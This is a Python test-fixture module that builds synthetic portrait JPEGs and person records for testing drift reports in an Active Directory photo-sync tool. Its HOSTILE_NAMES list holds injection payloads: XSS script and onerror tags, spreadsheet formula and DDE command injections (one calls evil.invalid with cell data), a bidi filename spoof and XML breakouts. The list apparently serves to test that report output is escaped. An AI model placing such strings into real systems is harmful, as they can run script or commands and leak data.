# -*- coding: utf-8 -*-
"""Realistic people and photos for drift report tests (Pillow, deterministic, no directory needed).

    portrait(seed)            a small JPEG head-and-shoulders picture, different per seed
    photo_summary(data)       the before/after summary a sync run records for those bytes
    make_person(i, status)    (outcome dict, current bytes, desired bytes) for one person
    HOSTILE_NAMES             display names that try markup, quotes, formulas and odd unicode
    write_report(dir, people) a ReportWriter run over (outcome, current, desired) triples
"""

import colorsys
import hashlib
import io

from PIL import Image, ImageDraw

from ansible_collections.photosync.ad.plugins.module_utils import _report

# Each tries to break out of a different context: HTML text, HTML attribute, our script, a
# spreadsheet formula, XML, the CSV quoting, bidi text, and characters XML forbids.
CANARY_ATTR = "data-pwned"
HOSTILE_NAMES = [
    u"<script>document.body.setAttribute('data-pwned','script')</script>",
    u'"><img src=x onerror="document.body.setAttribute(\'data-pwned\',\'img\')">',
    u"' onmouseover='alert(1)",
    u"</div></div><b>closed early</b>",
    u"=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
    u"+cmd|' /C calc'!A0",
    u"-2+3",
    u"@SUM(1+1)*cmd|' /C calc'!A0",
    u"Zoë \"Z\" O'Brien-Łukasiewicz",
    u"山田 太郎",
    u"\u202eevil\u202c gnp.exe",
    u"Null\x00Byte and \x1b[31mescape",
    u"]]></failure><failure message=\"x\">",
    u"Ωmega & Sons <Ltd>",
]


def portrait(seed, size=96, quality=85):
    """A head-and-shoulders JPEG whose colours depend on ``seed``."""
    hue = (seed * 0.137) % 1.0
    bg = tuple(int(c * 255) for c in colorsys.hsv_to_rgb(hue, 0.45, 0.85))
    shirt = tuple(int(c * 255) for c in colorsys.hsv_to_rgb((hue + 0.5) % 1.0, 0.6, 0.45))
    skin = [(241, 214, 189), (224, 172, 138), (198, 134, 94), (141, 85, 36)][seed % 4]
    hair = [(40, 30, 20), (120, 80, 40), (200, 170, 90), (90, 90, 90)][(seed // 4) % 4]
    image = Image.new("RGB", (size, size), bg)
    draw = ImageDraw.Draw(image)
    for y in range(size):  # a soft vertical gradient, so the picture is not flat
        shade = int(30 * y / size)
        draw.line([(0, y), (size, y)], fill=(max(bg[0] - shade, 0), max(bg[1] - shade, 0), max(bg[2] - shade, 0)))
    s = size / 96.0
    draw.ellipse([18 * s, 66 * s, 78 * s, 126 * s], fill=shirt)
    draw.ellipse([30 * s, 14 * s, 66 * s, 58 * s], fill=hair)
    draw.ellipse([32 * s, 20 * s, 64 * s, 60 * s], fill=skin)
    draw.rectangle([43 * s, 56 * s, 53 * s, 68 * s], fill=skin)
    out = io.BytesIO()
    image.save(out, "JPEG", quality=quality)
    return out.getvalue()


def photo_summary(data):
    if data is None:
        return None
    with Image.open(io.BytesIO(data)) as image:
        width, height = image.size
        fmt = image.format
    return {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data), "width": width, "height": height,
            "format": fmt}


REASONS = {
    "in_sync": [],
    "add": ["no photo set; the source has one"],
    "update": ["the photo differs from the source (pixels changed)", "size 20480 bytes is over max_bytes 10240"],
    "remove": ["the source has no photo and missing_source is remove"],
    "no_source": ["the source has no photo for this person"],
    "conflict": ["the value changed between read and write (someone else wrote it)"],
    "invalid_source": ["the source file is not an image (HTML error page)"],
    "error": ["the source failed for this person"],
}


def make_person(i, status, display_name=None, with_photos=True, photo=portrait):
    """One outcome record as _reconcile's ``as_dict()`` gives it, plus the photo bytes."""
    has_current = status in ("in_sync", "update", "remove", "conflict", "no_source", "error", "invalid_source")
    has_desired = status in ("in_sync", "add", "update", "conflict")
    current = photo(i) if has_current and with_photos else None
    if status == "in_sync":
        desired = current
    else:
        desired = photo(i + 1000) if has_desired and with_photos else None
    name = display_name if display_name is not None else u"Person %05d" % i
    record = {
        "user": u"user%05d" % i,
        "dn": u"CN=%s,OU=Staff,OU=People,DC=example,DC=test" % name.replace(",", "\\,"),
        "display_name": name,
        "status": status,
        "reasons": list(REASONS[status]),
        "before": photo_summary(current),
        "after": photo_summary(desired),
        "source": u"/srv/photos/user%05d.jpg" % i,
        "source_version": u"mtime:%d" % (1764000000 + i),
        "backup_file": u"/srv/backups/user%05d.jpg" % i if status in ("update", "remove") else None,
        "written": False,
        "error": u"HTTP 503 from the photo service after 3 attempts" if status == "error" else None,
        "hint": u"Run again when the service is back; nothing was changed" if status == "error" else None,
    }
    return record, current, desired


def people_by_status(statuses, names=None, start=0):
    names = list(names or [])
    out = []
    for n, status in enumerate(statuses):
        name = names[n] if n < len(names) else None
        out.append(make_person(start + n, status, display_name=name))
    return out


RUN_INFO = {
    "check_mode": True,
    "scope": "OU=People,DC=example,DC=test (subtree)",
    "source": "folder /srv/photos, names {sAMAccountName}.jpg",
    "attribute": "thumbnailPhoto",
    "profile_fingerprint": "jpeg-96x96-q85-10240",
    "collection_version": "0.1.0",
}


def write_report(folder, people, formats=_report.FORMATS, run_info=None, summary=None, **kwargs):
    writer = _report.ReportWriter(str(folder), formats, dict(run_info or RUN_INFO), **kwargs)
    with writer:
        for record, current, desired in people:
            writer.add(record, current_data=current, desired_data=desired)
        paths = writer.finish(summary)
    return writer, paths
